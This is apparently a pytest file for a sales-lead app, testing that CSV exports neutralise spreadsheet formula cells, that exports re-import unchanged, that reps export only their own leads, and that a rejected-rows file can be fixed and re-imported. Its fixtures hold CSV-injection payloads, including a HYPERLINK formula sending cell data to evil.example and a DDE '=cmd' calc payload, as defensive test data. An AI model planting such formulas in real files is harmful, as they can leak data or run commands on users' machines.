"""Exports and the errors file you can fix and re-import (issue 12, items 1 and 2), on
SQLite and PostgreSQL.

Every export goes through :mod:`baton.services.exports`: formula cells neutralised in
leads, handoffs and activities alike, an E.164 phone left as it is, the guard taken off
again by the import (export → import gives a lead's fields back exactly), filters
checked, a rep's export holding only what the rep may read, and rows streamed page by
page without holding the database.

The floor (as in ``test_lead_access``): the example contract; team ``na`` (manager Sam,
rep Ann) and team ``emea`` (rep Carl). Dana (US) asks for a demo and goes to Ann, Jonas
(DE) to Carl; a third lead never reached a handoff.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from tests.conftest import principal_for

from baton.config import Settings
from baton.domain.access import Principal, operator
from baton.domain.activities import ActivityCreate
from baton.domain.clock import ManualClock
from baton.domain.errors import NotFound, ValidationFailed
from baton.domain.leads import ATTRIBUTION_FIELDS, IDENTITY_FIELDS, PROFILE_FIELDS, LeadCreate
from baton.domain.reps import RepCreate, TeamCreate
from baton.services.activities import ingest_activity
from baton.services.context import Context, open_context
from baton.services.contracts import activate_contract, approve_contract, create_contract
from baton.services.exports import activity_export, handoff_export, lead_export
from baton.services.handoffs import list_handoffs, reject_handoff
from baton.services.imports import (
    ERRORS_COLUMN,
    LINE_COLUMN,
    import_activities,
    import_leads,
    write_lines_to_mend,
)
from baton.services.leads import capture_lead
from baton.services.notes import add_tag
from baton.services.reps import create_rep, create_team
from baton.store.tables import activities, leads

EXAMPLE = (Path(__file__).parents[2] / "contracts" / "example.yaml").read_text()
OPS = operator("ops")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@dataclass(frozen=True)
class Floor:
    dana: int
    jonas: int
    lone: int


def hand_raise(ctx: Context, fields: dict[str, Any], key: str) -> int:
    data = LeadCreate.model_validate(fields, context={"default_region": "US"})
    lead_id = capture_lead(ctx, data, actor=operator("form")).lead.id
    event = ActivityCreate.model_validate(
        {
            "email": fields["email"],
            "type": "demo_request",
            "occurred_at": ctx.clock.now(),
            "idempotency_key": key,
            "properties": {"page": "=cmd|' /C calc'!A0"},
        }
    )
    ingest_activity(ctx, event, actor=operator("web"))
    return lead_id


@pytest.fixture
def floor(ctx: Context) -> Floor:
    version = create_contract(ctx, EXAMPLE, actor=operator("maria")).version
    approve_contract(ctx, version, role="marketing", actor=operator("maria"))
    approve_contract(ctx, version, role="sales", actor=operator("sam"))
    activate_contract(ctx, version, actor=OPS)
    create_team(ctx, TeamCreate(name="na", manager_email="sam@lumen.example"), actor=OPS)
    create_team(ctx, TeamCreate(name="emea", manager_email="eve@lumen.example"), actor=OPS)
    create_rep(ctx, RepCreate(email="ann@lumen.example", name="Ann", team="na"), actor=OPS)
    create_rep(ctx, RepCreate(email="carl@lumen.example", name="Carl", team="emea"), actor=OPS)
    dana = {
        "email": "dana@northwind.com",
        "first_name": HYPERLINK,
        "last_name": "-Reyes",
        "company": "+Northwind",
        "title": "@VP Sales",
        "phone": "+1 415 555 0134",
        "country": "US",
        "source": "webinar",
        "attributes": {"plan": "=pro", "seats": 40},
    }
    jonas = {"email": "jonas@northwind.de", "last_name": "Becker", "country": "DE"}
    made = Floor(
        dana=hand_raise(ctx, dana, "=evt-1"),
        jonas=hand_raise(ctx, jonas, "evt-2"),
        lone=capture_lead(
            ctx, LeadCreate(email="lone@example.org"), actor=operator("form")
        ).lead.id,
    )
    add_tag(ctx, made.dana, "hot", actor=OPS)
    return made


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def csv_of(export: Any) -> list[dict[str, str]]:
    return rows("".join(export.chunks("csv")))


def ann(ctx: Context) -> Principal:
    return principal_for(ctx, "rep", rep_email="ann@lumen.example")


def test_formula_cells_are_neutralised_in_every_export(ctx: Context, floor: Floor) -> None:
    [handoff] = list_handoffs(ctx, lead_id=floor.dana, actor=OPS)
    reject_handoff(ctx, handoff.id, code="no_budget", note="@SUM(1+1)", actor=OPS)

    dana = next(r for r in csv_of(lead_export(ctx, actor=OPS)) if r["id"] == str(floor.dana))
    assert dana["first_name"] == "'" + HYPERLINK
    assert (dana["last_name"], dana["company"], dana["title"]) == (
        "'-Reyes",
        "'+Northwind",
        "'@VP Sales",
    )
    assert dana["phone"] == "+14155550134", "an E.164 phone is written as it is"
    assert dana["attributes"] == '{"plan": "=pro", "seats": 40}'  # JSON starts with {
    assert (dana["tags"], dana["owner_rep_email"], dana["owner_rep_name"]) == (
        "hot",
        "ann@lumen.example",
        "Ann",
    )
    assert dana["grade"] in {"A", "B", "C", "D"} and float(dana["score"]) > 0

    [opened] = [r for r in csv_of(handoff_export(ctx, actor=OPS)) if r["id"] == str(handoff.id)]
    assert opened["lead_name"] == "'" + HYPERLINK + " -Reyes"
    assert opened["lead_company"] == "'+Northwind"
    assert (opened["status"], opened["reason_code"]) == ("rejected", "no_budget")
    assert opened["outcome"] in {"recycle", "disqualify"}
    assert opened["reason"] == "'@SUM(1+1)"
    assert opened["rep_email"] == "ann@lumen.example"

    events = csv_of(activity_export(ctx, actor=OPS, filters={"type": "demo_request"}))
    keys = {r["idempotency_key"] for r in events}
    assert keys == {"'=evt-1", "evt-2"}
    assert {r["properties"] for r in events} == {'{"page": "=cmd|\' /C calc\'!A0"}'}

    # JSON lines are for programs: nothing is guarded there.
    jsonl = "".join(lead_export(ctx, actor=OPS, filters={"tag": "hot"}).chunks("jsonl"))
    assert '"first_name": "=HYPERLINK(' in jsonl and '"tags": ["hot"]' in jsonl


def test_reimporting_a_lead_export_changes_nothing(ctx: Context, floor: Floor) -> None:
    exported = io.StringIO()
    count = lead_export(ctx, actor=OPS).write(exported)
    with ctx.read() as connection:
        before = [
            dict(r) for r in connection.execute(select(leads).order_by(leads.c.id)).mappings()
        ]

    report = import_leads(ctx, io.StringIO(exported.getvalue()), actor=OPS)

    assert (report.errors, report.warnings) == ([], [])
    assert (report.created, report.updated, report.unchanged) == (0, 0, count)
    assert "stage" in report.dropped_columns and "owner_rep_email" in report.dropped_columns
    with ctx.read() as connection:
        after = [dict(r) for r in connection.execute(select(leads).order_by(leads.c.id)).mappings()]
    fields = (*PROFILE_FIELDS, *IDENTITY_FIELDS, *ATTRIBUTION_FIELDS, "attributes", "consent")
    assert [{f: r[f] for f in fields} for r in after] == [{f: r[f] for f in fields} for r in before]


def test_export_then_import_into_a_new_database_gives_the_fields_back(
    ctx: Context, floor: Floor, tmp_path: Path
) -> None:
    exported = io.StringIO()
    lead_export(ctx, actor=OPS).write(exported)
    fresh = open_context(
        Settings(database_url=f"sqlite:///{tmp_path / 'fresh.db'}", env="test"),
        clock=ManualClock(current=ctx.clock.now()),
    )
    try:
        report = import_leads(fresh, io.StringIO(exported.getvalue()), actor=OPS)
        assert (report.created, report.errors) == (3, [])
        back = {r["email"]: r for r in csv_of(lead_export(fresh, actor=OPS))}
    finally:
        fresh.engine.dispose()
    before = {r["email"]: r for r in rows(exported.getvalue())}
    fields = [*PROFILE_FIELDS, *IDENTITY_FIELDS, *ATTRIBUTION_FIELDS, "consent", "attributes"]
    assert {e: {f: r[f] for f in fields} for e, r in back.items()} == {
        e: {f: r[f] for f in fields} for e, r in before.items()
    }
    assert back["dana@northwind.com"]["first_name"] == "'" + HYPERLINK  # the same cell again
    assert back["dana@northwind.com"]["created_at"] == before["dana@northwind.com"]["created_at"]


def test_a_rep_exports_only_what_they_may_read(ctx: Context, floor: Floor) -> None:
    rep = ann(ctx)
    assert [r["id"] for r in csv_of(lead_export(ctx, actor=rep))] == [str(floor.dana)]
    assert {r["lead_id"] for r in csv_of(handoff_export(ctx, actor=rep))} == {str(floor.dana)}
    assert {r["lead_id"] for r in csv_of(activity_export(ctx, actor=rep))} == {str(floor.dana)}
    manager = principal_for(ctx, "sales_manager", email="sam@lumen.example", teams=("na",))
    assert [r["id"] for r in csv_of(lead_export(ctx, actor=manager))] == [str(floor.dana)]
    assert len(csv_of(lead_export(ctx, actor=OPS))) == 3
    # Another's lead is missing to the rep, exactly like one that does not exist.
    with pytest.raises(NotFound):
        activity_export(ctx, actor=rep, filters={"lead_id": floor.jonas})
    with pytest.raises(NotFound):
        handoff_export(ctx, actor=rep, filters={"lead_id": floor.jonas})


def test_filters_choose_the_rows(ctx: Context, floor: Floor, clock: ManualClock) -> None:
    def ids(export: Any) -> list[int]:
        return [int(r["id"]) for r in csv_of(export)]

    clock.advance(timedelta(days=2))
    later = capture_lead(ctx, LeadCreate(email="later@example.org"), actor=OPS).lead.id
    assert ids(lead_export(ctx, actor=OPS, filters={"stage": "mql"})) == [floor.dana, floor.jonas]
    assert ids(lead_export(ctx, actor=OPS, filters={"stage": ["lead"]})) == [floor.lone, later]
    assert ids(lead_export(ctx, actor=OPS, filters={"owner": "Carl@lumen.example"})) == [
        floor.jonas
    ]
    assert ids(lead_export(ctx, actor=OPS, filters={"tag": "HOT"})) == [floor.dana]
    assert ids(lead_export(ctx, actor=OPS, filters={"source": "Webinar"})) == [floor.dana]
    today = clock.now().date().isoformat()
    assert ids(lead_export(ctx, actor=OPS, filters={"since": today})) == [later]
    assert ids(lead_export(ctx, actor=OPS, filters={"until": clock.now()})) == [
        floor.dana,
        floor.jonas,
        floor.lone,
    ]
    graded = csv_of(lead_export(ctx, actor=OPS, filters={"grade": "D"}))
    assert graded and {r["grade"] for r in graded} == {"D"}

    handoffs = csv_of(handoff_export(ctx, actor=OPS, filters={"rep": "ann@lumen.example"}))
    assert [r["lead_id"] for r in handoffs] == [str(floor.dana)]
    assert csv_of(handoff_export(ctx, actor=OPS, filters={"status": "won"})) == []
    events = csv_of(activity_export(ctx, actor=OPS, filters={"lead_id": floor.jonas}))
    assert {r["type"] for r in events} == {"captured", "demo_request"}


@pytest.mark.parametrize(
    ("make", "filters", "loc"),
    [
        (lead_export, {"stage": "bogus"}, "stage"),
        (lead_export, {"owner": "nobody@lumen.example"}, "owner"),
        (handoff_export, {"status": "open"}, "status"),
        (handoff_export, {"rep": "nobody@lumen.example"}, "rep"),
        (activity_export, {"type": "page_vieww"}, "type"),
    ],
)
def test_a_bad_filter_is_refused_before_anything_is_written(
    ctx: Context, floor: Floor, make: Any, filters: dict[str, Any], loc: str
) -> None:
    with pytest.raises(ValidationFailed) as caught:
        make(ctx, actor=OPS, filters=filters)
    assert [p.loc for p in caught.value.problems] == [loc]


def test_a_large_export_streams_page_by_page_without_holding_the_database(
    ctx: Context, floor: Floor
) -> None:
    chunks = lead_export(ctx, actor=OPS, page=1).chunks("csv")
    header, first = next(chunks), next(chunks)
    assert header.startswith("id,email,") and first.count("\n") == 1  # one row a page
    # Between two pages no transaction is open: a capture goes through meanwhile, and
    # the export (keyset by id) picks the new lead up at its end.
    late = capture_lead(ctx, LeadCreate(email="late@example.org"), actor=OPS).lead.id
    rest = rows(header + "".join(chunks))
    assert [int(r["id"]) for r in rest] == [floor.jonas, floor.lone, late]


# --- the errors file ----------------------------------------------------------------

LEADS_FILE = """Email;First Name;Company;Phone;Plan
ann@acme.example.com;Ann;Acme;;pro
not-an-email;Bob;=Beta;;free
cy@gamma.example.com;Cy;"Gamma;Inc";+4930123456;pro
;Di;Delta;not a phone;team
"""


def mend(text: str, fix: dict[str, dict[str, str]]) -> str:
    """The errors file with the cells of ``fix`` (line -> column -> value) changed, as a
    user mends it in a spreadsheet and saves it (same delimiter)."""
    dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=",;")
    table = list(csv.DictReader(io.StringIO(text, newline=""), dialect=dialect))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(table[0]), delimiter=dialect.delimiter)
    writer.writeheader()
    for row in table:
        row.update(fix.get(row[LINE_COLUMN], {}))
        writer.writerow(row)
    return out.getvalue()


def test_the_errors_file_once_mended_imports_as_it_is(ctx: Context) -> None:
    first = import_leads(ctx, io.StringIO(LEADS_FILE), actor=OPS)
    assert (first.created, first.rejected) == (2, 2)
    errors = io.StringIO()
    assert write_lines_to_mend(first, errors) == 2
    text = errors.getvalue()

    # The file's own header and delimiter, its rejected lines' own cells, guarded.
    assert (
        text.splitlines()[0] == f"{LINE_COLUMN};{ERRORS_COLUMN};Email;First Name;Company;Phone;Plan"
    )
    table = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert [r[0] for r in table[1:]] == ["3", "5"]
    bob, di = table[1], table[2]
    assert bob[0] == "3" and bob[1].startswith("email: ")
    assert bob[2:] == ["not-an-email", "Bob", "'=Beta", "", "free"]
    assert di[1].startswith("phone: ") and "(row): " in di[1]

    fixed = mend(
        text,
        {
            "3": {"Email": "bob@beta.example.com"},
            "5": {"Email": "di@delta.example.com", "Phone": "+44 20 7946 0123"},
        },
    )
    second = import_leads(ctx, io.StringIO(fixed), actor=OPS)

    assert (second.rejected, second.created, second.updated) == (0, 2, 0)
    assert set(second.dropped_columns) == {LINE_COLUMN, ERRORS_COLUMN}
    with ctx.read() as connection:
        stored = {
            r.email: r
            for r in connection.execute(select(leads.c.email, leads.c.company, leads.c.attributes))
        }
    assert len(stored) == 4, "every row landed, none twice"
    assert stored["bob@beta.example.com"].company == "=Beta"  # the guard is gone again
    assert stored["di@delta.example.com"].attributes == {"plan": "team"}  # no baton_* keys


ACTIVITIES_FILE = """email,type,occurred_at,idempotency_key,url
ann@acme.example.com,page_view,2026-03-01T10:00:00Z,e-1,/pricing
ann@acme.example.com,page_vew,2026-03-01T10:05:00Z,e-2,/docs
bo@beta.example.com,demo_request,someday,e-3,=cmd
ann@acme.example.com,email_open,2026-03-01T10:07:00Z,,
"""


def test_a_mended_activities_errors_file_stores_each_event_once(ctx: Context) -> None:
    first = import_activities(ctx, io.StringIO(ACTIVITIES_FILE), actor=OPS)
    assert (first.stored, first.rejected) == (2, 2)
    errors = io.StringIO()
    write_lines_to_mend(first, errors)
    table = rows(errors.getvalue())
    assert [(r[LINE_COLUMN], r["idempotency_key"], r["url"]) for r in table] == [
        ("3", "e-2", "/docs"),
        ("4", "e-3", "'=cmd"),
    ]

    fixed = mend(
        errors.getvalue(),
        {"3": {"type": "page_view"}, "4": {"occurred_at": "2026-03-01T11:00:00Z"}},
    )
    second = import_activities(ctx, io.StringIO(fixed), actor=OPS)
    again = import_activities(ctx, io.StringIO(fixed), actor=OPS)

    assert (second.stored, second.rejected, again.stored, again.duplicates) == (2, 0, 0, 2)
    with ctx.read() as connection:
        stored = connection.execute(
            select(activities.c.idempotency_key, activities.c.properties).where(
                activities.c.type != "captured"
            )
        ).all()
        total = connection.execute(
            select(func.count()).select_from(activities).where(activities.c.type != "captured")
        ).scalar_one()
    assert total == 4, "every row landed, none twice"
    assert {key: props.get("url") for key, props in stored} == {
        "e-1": "/pricing",
        "e-2": "/docs",
        "e-3": "=cmd",
        None: None,
    }
